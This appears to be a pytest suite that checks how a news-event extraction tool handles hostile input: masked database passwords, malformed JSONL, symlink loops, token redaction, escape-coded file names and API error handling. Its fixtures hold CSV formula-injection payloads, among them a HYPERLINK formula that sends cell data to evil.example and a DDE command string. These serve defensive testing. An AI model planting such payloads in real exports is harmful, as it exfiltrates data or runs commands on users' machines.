"""Issue 27: hostile and unlucky input. Each test is one reproduction of the
probe, numbered as in the issue: no secret leaked, no line lost, no server
frozen, no traceback, no 500. Real DuckDB, real uvicorn, real PostgreSQL
(tests/pg_server.py), real subprocesses; the spaCy pipeline where an article
is processed."""
from __future__ import annotations

import csv
import io
import json
import logging
import os
import subprocess
import sys
import threading
import time
import tracemalloc
from pathlib import Path

import httpx
import pytest
from click.testing import CliRunner

from crosswire.cli import main
from crosswire.config import Settings
from crosswire.ingest import expand_paths, read_inputs
from crosswire.outputs.exports import planned_ics
from crosswire.records import (Article, ArticleResult, Event, Evidence, Mention, Participant, Place, Rejection,
                               Sentence, Story)
from crosswire.sanitize import FORMULA_STARTS
from crosswire.store import open_store
from crosswire.web import create_app
from web_helpers import TOKEN, LiveServer, free_port

AUTH = {"Authorization": f"Bearer {TOKEN}"}
GOOD = ("The foreign ministers of the two countries met in the capital on Monday and agreed to resume "
        "talks on the border dispute next month, officials said.")
FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
            "\t=1+1", " =1+1")
STORY_TITLE = "[/] [bold]story\x1b[31m"  # rich markup that would crash a table, and a terminal escape


def cli(*args: str, env: dict | None = None):
    """`crosswire ARGS` in this process (click's runner); exceptions are not swallowed silently."""
    return CliRunner().invoke(main, list(args), env=env)


def one_error_line(result) -> str:
    """A command that failed the way a user should see it: exit 1 or 2, one `Error:` line, no traceback."""
    assert result.exit_code in (1, 2), (result.exit_code, result.output)
    assert isinstance(result.exception, SystemExit), repr(result.exception)
    assert "Traceback" not in result.output
    errors = [line for line in result.output.splitlines() if line.startswith("Error:")]
    assert len(errors) == 1, result.output
    return errors[0]


# ------------------------------------------------------------------ fixtures
def hostile_store(db: str) -> Event:
    """A store with one planned event whose every text field is hostile:
    spreadsheet formulas, line separators, a terminal escape."""
    text = (f"{FORMULAS[0]} The envoys will meet in Geneva on March 10.\u2028Second\u0085line \x1b[31mred. "
            + GOOD)
    article = Article(id=Article.make_id(text), text=text, title=FORMULAS[3], path="hostile.txt",
                      outlet=FORMULAS[0], published="2024-03-01", url="https://example.org/a")
    sentence = Sentence(0, 0, len(text), text)
    event = Event(id="e-hostile-1", event_type="CONSULT", status="planned", date="2024-03-10",
                  date_basis="explicit", actors=[Participant(FORMULAS[1], "VAL")],
                  recipients=[Participant(FORMULAS[2], "EST")],
                  location=Place(FORMULAS[4], 2660646, "P", "PPL", "VAL", FORMULAS[5], 46.2, 6.1, "explicit",
                                 Evidence(article.id, 0, 0, 5, FORMULAS[4])), topic=FORMULAS[5],
                  mentions=[Mention("m1", article.id, 0, 0, 5, text, FORMULAS[0], "planned", "2024-03-10")],
                  story="s-hostile", event_text=text)
    with open_store(db) as store:
        store.write_result(ArticleResult(article=article, sentences=[sentence]))
        store.write_resolution([event], [Story(id="s-hostile", title=STORY_TITLE, articles=[article.id],
                                               events=[event.id], outlets=[article.outlet])])
    return event


def assert_no_formula_cells(text: str) -> int:
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    bad = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert not bad, bad
    return len(cells)


@pytest.fixture
def hostile_db(tmp_path) -> str:
    db = str(tmp_path / "hostile.duckdb")
    hostile_store(db)
    return db


# ---------------------------------------------- 1. the PostgreSQL password
@pytest.mark.postgres
def test_1_postgres_password_is_never_shown(tmp_path):
    pytest.importorskip("psycopg")
    from pg_server import PostgresServer, find_bin_dir

    if not find_bin_dir():
        pytest.skip("PostgreSQL server binaries not installed")
    with PostgresServer() as server:  # trust authentication: the password is accepted and must never show
        url = server.url.replace("@", ":S3cret@", 1)
        with LiveServer(create_app(url, token=TOKEN)) as live:
            stats = httpx.get(live.url + "/api/stats").json()
        assert "S3cret" not in json.dumps(stats) and stats["db"].startswith("postgresql://")
        assert ":***@" in stats["db"]
        port = free_port()
        serve = subprocess.Popen([sys.executable, "-m", "crosswire.cli", "serve", "--db", url, "--token", "T",
                                  "--port", str(port)], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
        try:
            startup = serve.stdout.readline()
        finally:
            serve.terminate()
            serve.wait(timeout=30)
        assert startup.startswith("crosswire serving postgresql://") and "S3cret" not in startup, startup
        refused = cli("events", "--db", f"postgresql://cw:S3cret@127.0.0.1:{free_port()}/crosswire")
        assert "S3cret" not in one_error_line(refused)


# ----------------------------------------- 2. one bad JSONL line, no loss
def write_deep_jsonl(path: Path) -> None:
    with open(path, "w", encoding="utf-8") as fh:
        fh.write(json.dumps({"text": GOOD, "title": "first"}) + "\n")
        fh.write('{"text": ' + "[" * 200_000 + "\n")
        fh.write(json.dumps({"text": GOOD + " The talks will continue.", "title": "third"}) + "\n")


def test_2_a_bad_jsonl_line_costs_no_later_line(tmp_path):
    path = tmp_path / "deep.jsonl"
    write_deep_jsonl(path)
    items = list(read_inputs([str(path)]))
    assert [getattr(i, "title", None) for i in items] == ["first", None, "third"]
    assert isinstance(items[1], Rejection) and items[1].reason.startswith("invalid JSON on line 2")


def test_2_every_bad_line_is_named_and_the_run_stores_the_rest(tmp_path, nlp):
    from crosswire.pipeline import Pipeline
    from crosswire.runner import run_paths

    path = tmp_path / "deep.jsonl"
    write_deep_jsonl(path)
    with open(path, "ab") as fh:  # more kinds of bad line, each followed by a good one
        for i, bad in enumerate([b'{"text": "unterminated', b"[1, 2]", b'{"text": "short"}', b'{"text": "\xff"}']):
            fh.write(bad + b"\n")
            fh.write(json.dumps({"text": f"{GOOD} Report {i} of the week.", "title": f"good {i}"}).encode() + b"\n")
    with open_store(str(tmp_path / "s.duckdb")) as store:
        summary = run_paths([str(path)], store, Pipeline(Settings.load(use_embeddings=False, progress=False)))
        titles = sorted(a.title for a in store.articles())
        quarantined = sorted(r.reason.split(":")[0] for r in store.quarantined())
    assert titles == ["first", "good 0", "good 1", "good 2", "good 3", "third"]
    assert summary.articles_new == 6 and len(summary.rejections) == 5
    assert quarantined == ["invalid JSON on line 2", "invalid JSON on line 4", "line 10",
                           "line 6", "line 8"]


def test_2_an_article_a_stage_fails_on_costs_no_other(tmp_path, monkeypatch, caplog):
    """A stage that raises on one article (as the actors stage did on a
    results table whose entity was only line breaks) must not end the run:
    the other articles are extracted and resolved, the failing one is stored
    unstamped (extracted again the next time it is read), and the log names
    the file, the stage and the reason."""
    import crosswire.extract.actors as actors
    from crosswire.pipeline import Pipeline
    from crosswire.runner import run_paths

    real = actors.link_surnames

    def fragile(ctx, found, mentions):
        if "Borovia" in ctx.article.text:
            raise IndexError("list index out of range")
        return real(ctx, found, mentions)

    monkeypatch.setattr(actors, "link_surnames", fragile)
    (tmp_path / "a.txt").write_text(f"Talks planned\n\n{GOOD}\n", encoding="utf-8")
    (tmp_path / "b.txt").write_text("Borovia report\n\nBorovia and Arland will hold talks on March 3.\n",
                                    encoding="utf-8")
    settings = Settings.load(use_embeddings=False, progress=False, extract_workers=1)
    with caplog.at_level(logging.ERROR, logger="crosswire"), open_store(str(tmp_path / "s.duckdb")) as store:
        summary = run_paths([str(tmp_path / "a.txt"), str(tmp_path / "b.txt")], store, Pipeline(settings))
        stored = {Path(a.path).name for a in store.articles()}
        stale = store.stale_articles(Pipeline(settings).producer)
    assert summary.articles_new == 2 and stored == {"a.txt", "b.txt"} and summary.event_mentions > 0
    assert len(stale) == 1
    assert any("b.txt" in r.getMessage() and "actors stage" in r.getMessage() and "IndexError" in r.getMessage()
               for r in caplog.records)


# ------------------------------------------------- 3. CSV formula injection
def test_3_csv_exports_never_start_a_cell_with_a_formula(hostile_db, tmp_path):
    out = tmp_path / "events.csv"
    assert cli("export", "csv", "--out", str(out), "--db", hostile_db).exit_code == 0
    cli_csv = out.read_text(encoding="utf-8")
    assert assert_no_formula_cells(cli_csv) > 10 and "'=HYPERLINK(" in cli_csv
    with LiveServer(create_app(hostile_db)) as live:
        api_csv = httpx.get(live.url + "/api/export/events.csv").text
    assert assert_no_formula_cells(api_csv) > 10
    row = next(csv.DictReader(io.StringIO(api_csv)))
    assert row["actors"] == "'+cmd|' /C calc'!A0 [VAL]" and row["location"] == "'\t=1+1"


# ------------------------------------------- 4. an upload freezes nothing
def test_4_a_large_upload_does_not_block_other_requests(tmp_path):
    paragraph = ("<p>The minister said the talks would continue next week in the capital, and officials from "
                 "both sides agreed to meet again soon. {}</p>\n")
    html = ("<html><head><title>Big page</title></head><body><article>"
            + "".join(paragraph.format(i) for i in range(30_000)) + "</article></body></html>").encode()
    settings = Settings.load(db=str(tmp_path / "s.duckdb"), use_embeddings=False, progress=False)
    with LiveServer(create_app(settings.db, token=TOKEN, settings=settings)) as live:
        started = time.perf_counter()
        posted = httpx.post(live.url + "/api/articles", headers=AUTH, timeout=60,
                            files=[("files", ("big.html", html, "text/html"))])
        answered = time.perf_counter() - started
        assert posted.status_code == 202, posted.text
        latencies, phases = [], set()
        while True:
            t0 = time.perf_counter()
            assert httpx.get(live.url + "/api/stats", timeout=60).status_code == 200
            latencies.append(time.perf_counter() - t0)
            job = httpx.get(live.url + posted.json()["status_url"], headers=AUTH, timeout=60).json()
            phases.add(job["phase"])
            if job["status"] in ("done", "failed"):
                break
        reading = time.perf_counter() - started
    assert "reading" in phases and job["status"] == "done"
    assert job["rejections"][0]["reason"].startswith("article too long")  # 3.8 MB of text: read, then refused
    # the page took seconds to read; the upload and every other request answered meanwhile
    assert reading > 2 and answered < reading / 2, (answered, reading)
    assert max(latencies) < max(1.5, reading / 3), (max(latencies), reading)  # blocked: about `reading`


# --------------------------------------------- 5. a glob over a link loop
@pytest.mark.timeout(120)
def test_5_a_glob_over_a_symlink_loop_ends(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    os.makedirs("loop/sub")
    os.symlink("..", "loop/sub/up")
    assert list(expand_paths(["loop/**/*.txt"])) == ["loop/**/*.txt"]  # nothing matches: reported as not found
    os.makedirs("loop/other")
    os.symlink("..", "loop/other/up")  # two ways back up: glob.glob walks 2^40 paths here
    Path("loop/sub/a.txt").write_text("A\n\n" + GOOD)
    started = time.perf_counter()
    assert list(expand_paths(["loop/**/*.txt"])) == ["loop/sub/a.txt"]  # each real file once
    assert [a.title for a in read_inputs(["loop/**"])] == ["A"]
    assert time.perf_counter() - started < 10


def test_5_a_glob_over_its_limits_is_refused_with_a_reason(tmp_path):
    for i in range(30):
        (tmp_path / f"d{i}").mkdir()
    items = list(read_inputs([str(tmp_path / "**" / "*.txt"), str(tmp_path / "nothing.txt")],
                             Settings(glob_max_entries=10)))
    assert [(r.path, r.reason) for r in items] == [
        (str(tmp_path / "**" / "*.txt"), "glob too large (over 10 entries walked)"),
        (str(tmp_path / "nothing.txt"), "not found")]


# ------------------------------------------------ 6. no token in the logs
def test_6_logs_never_carry_a_token(tmp_path):
    records: list[str] = []

    class Keep(logging.Handler):
        def emit(self, record: logging.LogRecord) -> None:
            records.append(record.getMessage())

    access = logging.getLogger("uvicorn.access")
    handler, level = Keep(), access.level
    db = str(tmp_path / "s.duckdb")
    hostile_store(db)
    app = create_app(db, token=TOKEN, read_token="R", feed_token="feed-secret-1")
    import uvicorn

    port = free_port()
    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=port, log_level="info", access_log=True))
    access.addHandler(handler)
    access.setLevel(logging.INFO)
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    try:
        for _ in range(200):
            try:
                if httpx.get(f"http://127.0.0.1:{port}/api/export/planned.ics?token=feed-secret-1").status_code == 200:
                    break
            except httpx.HTTPError:
                time.sleep(0.05)
    finally:
        server.should_exit = True
        thread.join(timeout=10)
        access.removeHandler(handler)
        access.setLevel(level)
    logged = [r for r in records if "planned.ics" in r]
    assert logged and all("feed-secret-1" not in r and "token=***" in r for r in logged), records


# ------------------------------------------- 7. a 1 GB line, bounded memory
def test_7_an_over_long_jsonl_line_is_skipped_without_being_held(tmp_path):
    limit = 1 << 20
    path = tmp_path / "huge.jsonl"
    with open(path, "wb") as fh:  # 64 times the limit, no newline in it, then a good line
        fh.write(b'{"text": "')
        for _ in range(64):
            fh.write(b"a" * limit)
        fh.write(b'"}\n' + json.dumps({"text": GOOD}).encode() + b"\n")
    tracemalloc.start()
    try:
        items = list(read_inputs([str(path)], Settings(max_file_bytes=limit)))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert [type(i).__name__ for i in items] == ["Rejection", "Article"]
    assert items[0].reason == "line 1: too large (64 MB > 1 MB limit)"
    assert peak < 4 * limit, peak


# -------------------------------------- 8. two processes on one DuckDB file
HOLD = ("import sys, time\nfrom crosswire.store import open_store\ns = open_store(sys.argv[1])\n"
        "print('holding', flush=True)\ntime.sleep(float(sys.argv[2]))\ns.close()\n")


def hold_store(db: str, seconds: float) -> subprocess.Popen:
    holder = subprocess.Popen([sys.executable, "-c", HOLD, db, str(seconds)], stdout=subprocess.PIPE, text=True)
    assert holder.stdout.readline().strip() == "holding"
    return holder


def test_8_a_second_process_gets_one_clear_line(hostile_db, tmp_path):
    text = tmp_path / "a.txt"
    text.write_text("A\n\n" + GOOD)
    holder = hold_store(hostile_db, 120)
    try:
        fast = {"CROSSWIRE_STORE_WAIT_SECONDS": "0.5"}
        for args in (["run", str(text)], ["events"], ["show", "e-hostile-1"], ["export", "csv", "--out",
                                                                            str(tmp_path / "x.csv")]):
            line = one_error_line(cli(*args, "--db", hostile_db, env=fast))
            assert "in use by another process" in line and f"(PID {holder.pid})" in line, line
    finally:
        holder.kill()
        holder.wait()


def test_8_a_second_opener_waits_while_the_first_finishes(hostile_db):
    holder = hold_store(hostile_db, 1.5)
    try:
        started = time.perf_counter()
        with open_store(hostile_db, read_only=True, wait_seconds=60) as store:
            assert store.event("e-hostile-1") is not None
        assert time.perf_counter() - started >= 0.5
    finally:
        holder.wait(timeout=60)


# -------------------------------------------- 9. the API checks texts too
def test_9_the_api_refuses_what_the_cli_refuses(tmp_path):
    db = str(tmp_path / "s.duckdb")
    with LiveServer(create_app(db, token=TOKEN)) as live:
        def post(**body):
            return httpx.post(live.url + "/api/articles", headers=AUTH, json={"text": GOOD, **body})

        for text, reason in (("   \n\t  ", "no article text"), ("x", "no article text"),
                             ("\x01\x02\x03\x04 " * 20, "not text"), ("ab. " * 2000, "repetitive text")):
            refused = post(text=text)
            assert refused.status_code == 422 and reason in refused.json()["error"], (text[:10], refused.text)
        bad_date = post(published="notadate")
        assert bad_date.status_code == 422 and "published" in bad_date.json()["error"]
        form = httpx.post(live.url + "/api/articles", headers=AUTH, data={"text": "x"})
        assert form.status_code == 422 and "no article text" in form.json()["error"]
        assert httpx.get(live.url + "/api/stats").json()["counts"]["articles"] == 0


def test_9_run_texts_quarantines_what_ingest_would_refuse(tmp_path):
    from crosswire.pipeline import Pipeline
    from crosswire.runner import run_texts

    with open_store(str(tmp_path / "s.duckdb")) as store:
        summary = run_texts(["  ", "x", "\x01" * 60], store, Pipeline(progress=False))
        assert summary.articles_new == 0 and len(store.quarantined()) == 3
    assert {r.reason.split(" (")[0] for r in summary.rejections} == {"no article text", "not text"}


# --------------------------------------------- 10. mis-encoded files
def test_10_mixed_encodings_and_repeated_bytes_are_refused(tmp_path):
    body = "Le président et la délégation sont arrivés au Café de Genève lundi pour les négociations. "
    (tmp_path / "mixed.txt").write_bytes(("Café talks\n\n" + body).encode() + b"\n" + body.encode("cp1252"))
    (tmp_path / "repeated.txt").write_bytes(b"\xe9" * 4096)
    (tmp_path / "ascii-repeated.txt").write_bytes(b"A" * 4096)
    (tmp_path / "cp1252.txt").write_bytes(("Café talks\n\n" + body * 2).encode("cp1252"))
    items = {Path(i.path).name: i for i in read_inputs([str(tmp_path)])}
    assert items["mixed.txt"].reason == "mixed encodings (UTF-8 and another)"
    assert items["repeated.txt"].reason.startswith("repetitive text")
    assert items["ascii-repeated.txt"].reason.startswith("repetitive text")
    assert isinstance(items["cp1252.txt"], Article) and "Café de Genève" in items["cp1252.txt"].text


# --------------------------------------- 11. file names with escape codes
def test_11_file_names_reach_the_terminal_escaped(tmp_path, hostile_db):
    from rich.console import Console

    from crosswire.outputs.summary import print_summary
    from crosswire.runner import RunSummary

    evil = tmp_path / "evil\x1b[2J\x1b[31m\nname [bold]x \u202e.txt"
    evil.write_bytes(b"")
    summary = RunSummary(run_id="r", db=hostile_db, rejections=list(read_inputs([str(evil)])))
    with open_store(hostile_db) as store:
        store.quarantine(summary.rejections[0])
    out = io.StringIO()
    print_summary(summary, Console(file=out, width=400))
    listed = cli("quarantine", "--db", hostile_db)
    for shown in (out.getvalue(), listed.output):
        line = next(line for line in shown.splitlines() if "evil" in line)
        assert "\x1b" not in shown and "\u202e" not in shown
        assert "evil\\x1b[2J\\x1b[31m\\x0aname [bold]x \\u202e.txt" in line, line
    stories = cli("stories", "--db", hostile_db)
    assert stories.exit_code == 0 and "[/] [bold]story\\x1b[31m" in stories.output, stories.output


# --------------------------------------------------------- 12. no 500s
def test_12_huge_offsets_and_deep_bodies_are_client_errors(hostile_db):
    with LiveServer(create_app(hostile_db, token=TOKEN)) as live:
        for path in ("/api/events?offset=99999999999999999999999", "/api/articles?offset=99999999999999999999999",
                     "/api/quotes?offset=-1", "/events?offset=99999999999999999999999"):
            r = httpx.get(live.url + path, headers={"Accept": "application/json"})
            assert r.status_code == 422 and "offset" in r.json()["error"], (path, r.status_code)
        deep = httpx.post(live.url + "/api/articles", headers={**AUTH, "Content-Type": "application/json"},
                          content=b"[" * 100_000)
        assert deep.status_code == 400 and "nested too deeply" in deep.json()["error"]


# ------------------------------------------- 13. messages, not tracebacks
def test_13_failures_are_one_line_messages(tmp_path, hostile_db):
    not_duckdb = tmp_path / "notes.duckdb"
    not_duckdb.write_text("these are notes, not a database\n" * 20)
    assert "Is a directory" in one_error_line(cli("export", "csv", "--out", str(tmp_path), "--db", hostile_db))
    assert "not a DuckDB database file" in one_error_line(cli("events", "--db", str(not_duckdb)))
    assert "--read-token" in one_error_line(cli("serve", "--read-token-required", "--db", hostile_db))
    assert "99999" in one_error_line(cli("serve", "--port", "99999", "--db", hostile_db))
    pytest.importorskip("psycopg")
    unreachable = one_error_line(cli("events", "--db", f"postgresql://cw@127.0.0.1:{free_port()}/crosswire"))
    assert "cannot connect to PostgreSQL" in unreachable


# ---------------------------------------------------- 14. lesser items
def test_14_ics_text_has_no_raw_line_separators_and_ignores_the_host_header(hostile_db):
    with open_store(hostile_db, read_only=True) as store:
        event = store.event("e-hostile-1")
        articles = {a.id: a for a in store.articles()}
    ics = planned_ics([event], articles, event_url="https://desk.example/events/{id}")
    assert "\u2028" not in ics and "\x85" not in ics and "\x1b" not in ics
    assert "\r" not in ics.replace("\r\n", "") and "\n" not in ics.replace("\r\n", "")
    with LiveServer(create_app(hostile_db, public_url="https://desk.example/")) as live:
        feed = httpx.get(live.url + "/api/export/planned.ics", headers={"Host": "attacker.example"}).text
    assert "attacker.example" not in feed and "https://desk.example/events/e-hostile-1" in feed.replace("\r\n ", "")


def test_14_read_commands_create_nothing_and_check_their_options(tmp_path, hostile_db):
    missing = tmp_path / "no" / "such" / "store.duckdb"
    assert "no store at" in one_error_line(cli("events", "--db", str(missing)))
    assert not (tmp_path / "no").exists()
    assert "'notadate' is not a date" in one_error_line(cli("events", "--from", "notadate", "--db", hostile_db))
    assert "-1" in one_error_line(cli("events", "--limit", "-1", "--db", hostile_db))
    assert cli("events", "--limit", "1", "--json", "--db", hostile_db).output.count('"id": "e-hostile-1"') == 1


def test_14_id_prefixes_are_plain_and_never_ambiguous(tmp_path):
    db = str(tmp_path / "s.duckdb")
    hostile_store(db)
    with open_store(db) as store:
        twin = store.event("e-hostile-1")
        twin.id = "e-hostile-2"
        store.write_resolution([store.event("e-hostile-1"), twin], store.stories())
    assert "several event ids" in one_error_line(cli("show", "e", "--db", db))
    assert cli("show", "e-hostile-2", "--db", db).exit_code == 0
    with LiveServer(create_app(db)) as live:
        for wildcard in ("%25", "_", "e-hostile-_", "%25-1"):
            assert httpx.get(f"{live.url}/api/events/{wildcard}").status_code == 404, wildcard
        ambiguous = httpx.get(f"{live.url}/api/events/e-hostile")
        assert ambiguous.status_code == 400 and "several event ids" in ambiguous.json()["error"]
        assert httpx.get(f"{live.url}/api/events", params={"story": "%"}).json()["count"] == 0
        assert httpx.get(f"{live.url}/api/events", params={"actor": "_"}).json()["count"] == 0


def test_14_a_long_text_of_repeated_sentences_is_refused():
    from crosswire.ingest.article import article_or_rejection
    from crosswire.ingest import article_from_fields

    text = " ".join(["The minister said the talks would go on.", "The river flows past the mill."] * 5000)
    settings = Settings()
    refused = article_or_rejection(lambda: article_from_fields({"text": text}, "long.jsonl", settings),
                                   "long.jsonl", settings)
    assert isinstance(refused, Rejection) and refused.reason.startswith("repetitive text")


def test_14_a_failed_upload_job_shows_no_traceback(tmp_path):
    from crosswire.web.jobs import JobQueue

    store = open_store(str(tmp_path / "s.duckdb"))
    store.close()  # every write now fails inside the job
    queue = JobQueue(store, Settings.load(use_embeddings=False, progress=False))
    job = queue.submit([GOOD])
    queue.shutdown()
    shown = json.dumps(job.as_dict())
    assert job.status == "failed" and job.error.startswith("processing failed (")
    assert "Traceback" not in shown and "File \"" not in shown and job.summary is None
